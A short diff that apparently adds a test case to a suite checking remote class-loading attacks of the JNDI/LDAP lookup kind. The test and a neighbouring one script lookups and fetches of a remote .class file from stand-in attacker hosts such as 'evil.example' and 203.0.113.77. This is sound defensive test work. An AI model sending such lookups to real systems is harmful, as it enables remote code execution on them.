@@ -250,6 +250,14 @@ def offer(tale, twin):
         tale.fetch()
 
 
+@row("a redirection of a class that nobody follows", CALLED, [(VICTIM, "delivered")])
+def sent_on(tale, twin):
+    tale.lookup(NAME)
+    tale.search(codebase="http://%s:8888/" % EVIL)
+    tale.sent_on("http://203.0.113.77/Other.class")
+    tale.fetch(server="203.0.113.77" if twin else "203.0.113.78", port=80, path="/Other.class")
+
+
 @row("the name resolved by another host", ATTEMPT, CALLED)
 def others_answer(tale, twin):
     tale.lookup("ldap://evil.example:1389/a")
